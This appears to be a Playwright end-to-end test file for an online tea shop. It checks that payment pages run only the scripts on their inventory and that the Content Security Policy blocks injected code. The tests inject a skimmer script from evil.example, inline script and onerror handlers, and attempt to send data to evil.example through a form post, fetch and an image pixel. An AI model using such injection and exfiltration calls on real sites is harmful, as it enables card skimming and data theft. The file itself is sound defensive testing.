"""What a browser really runs on the payment pages, against their inventory; and what it refuses to run."""

from __future__ import annotations

import tomllib
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Request, expect

from e2e.customer import Customer
from e2e.demo import Demo
from tests.processes import wait_until

ROOT = Path(__file__).resolve().parents[1]
INVENTORY: dict[str, Any] = tomllib.loads((ROOT / "shop" / "payment_pages.toml").read_text())
# By where it comes from: what a provider's script loads further is the provider's, and the policy keeps it to its host.
PROVIDERS = {"/stripe.js": "Stripe.js", "/web-sdk/v6/": "PayPal's web SDK"}
PAYS_LATER = "AT321904300235473204"  # SEPA: the bank takes its time
FOREIGN = "https://evil.example/skimmer.js"


class Scripts:
    """The scripts that a page itself runs, by their names in the inventory; the providers' frames run others."""

    def __init__(self, alice: Customer) -> None:
        self._page, self._shop = alice.page, alice.shop
        self._found: set[str] = set()
        alice.page.on("request", self._heard)

    def taken(self) -> set[str]:
        """Return what was run since the last call, once the page asks for nothing more."""
        self._page.wait_for_load_state("networkidle")
        found, self._found = self._found, set()
        return found

    def _heard(self, request: Request) -> None:
        if request.resource_type != "script" or request.frame != self._page.main_frame:
            return
        own = f"{self._shop}/static/js/"
        path = urlsplit(request.url).path
        theirs = [name for start, name in PROVIDERS.items() if path.startswith(start)]
        is_theirs = theirs and not request.url.startswith(self._shop)
        self._found.add(theirs[0] if is_theirs else request.url.removeprefix(own))


def listed(endpoint: str) -> set[str]:
    """Return the names of the scripts that the inventory allows on a page."""
    return {script["name"] for script in INVENTORY["script"] if endpoint in script["pages"]}


def test_a_browser_runs_the_scripts_of_the_inventory_and_no_other(alice: Customer) -> None:
    page = alice.page
    _signs_in(alice)
    scripts = Scripts(alice)
    page.goto(f"{alice.shop}/account/payment-methods/add")
    expect(page.locator("#card-pay")).not_to_have_attribute("aria-disabled", "true")
    assert scripts.taken() == listed("cards.add")

    pay_page = alice.orders_tea()
    scripts.taken()
    page.goto(f"{alice.shop}/checkout")
    page.goto(pay_page)
    scripts.taken()
    page.reload()
    expect(page.locator("#card-pay")).not_to_have_attribute("aria-disabled", "true")
    expect(page.locator("paypal-button")).to_be_visible()
    assert scripts.taken() == listed("pay.page")


def test_the_checkout_and_the_page_of_the_way_back_run_only_their_own(alice: Customer) -> None:
    page = alice.page
    scripts = Scripts(alice)
    page.goto(f"{alice.shop}/teas/harbour-breakfast")
    page.get_by_role("button", name="Add to cart").click()
    page.wait_for_load_state("networkidle")
    scripts.taken()
    page.goto(f"{alice.shop}/checkout", wait_until="networkidle")
    assert scripts.taken() == listed("checkout.show")

    alice.orders_tea()
    frame = page.frame_locator("iframe[title='Secure payment input frame']")
    frame.get_by_role("button", name="SEPA Direct Debit").click()
    frame.locator("[name=iban]").fill(PAYS_LATER)
    scripts.taken()
    alice.presses_pay()
    expect(page.get_by_role("heading", name="Your bank is at work")).to_be_visible()
    assert scripts.taken() == listed("pay.return_page")


@pytest.mark.expects("Content Security Policy", "status of 404")
@pytest.mark.parametrize("path", ["/", "/cart", "pay page"])
def test_a_script_that_somebody_slipped_in_does_not_run_and_is_reported(
    alice: Customer, demo: Demo, path: str
) -> None:
    if path == "pay page":
        alice.orders_tea()
    else:
        alice.page.goto(alice.shop + path)
    alice.page.route(FOREIGN, lambda route: route.fulfill(body="document.title = 'skimmed'"))

    alice.page.evaluate(
        """address => {
            for (const change of [{ src: address }, { text: "document.title = 'skimmed'" }]) {
                document.body.append(Object.assign(document.createElement("script"), change));
            }
            const image = document.createElement("img");
            image.setAttribute("onerror", "document.title = 'skimmed'");
            image.src = "/static/nothing.png";
            document.body.append(image);
        }""",
        FOREIGN,
    )

    wait_until(lambda: "https://evil.example" in demo.log(), "the report of the browser")
    assert "skimmed" not in alice.page.title()


@pytest.mark.expects("Content Security Policy")
def test_what_a_slipped_in_form_or_frame_would_send_away_stays_here(alice: Customer) -> None:
    alice.orders_tea()
    before = alice.page.url

    sent = alice.page.evaluate(
        """async () => {
            const form = document.createElement("form");
            Object.assign(form, { action: "https://evil.example/", method: "post" });
            document.body.append(form);
            form.submit();
            const asked = await fetch("https://evil.example/collect").then(() => true, () => false);
            const refused = new Promise((done) => document.addEventListener("securitypolicyviolation", done));
            document.body.append(Object.assign(document.createElement("img"), { src: "https://evil.example/pixel" }));
            await refused;
            return asked;
        }"""
    )

    assert sent is False
    assert alice.page.url == before


def _signs_in(alice: Customer) -> None:
    alice.page.goto(f"{alice.shop}/login")
    alice.page.get_by_label("Mail address").fill("alice@example.com")
    alice.page.get_by_label("Password").fill("tea-and-tide")
    alice.page.locator("main").get_by_role("button", name="Sign in").click()
    expect(alice.page.get_by_role("heading", name="Your orders")).to_be_visible()
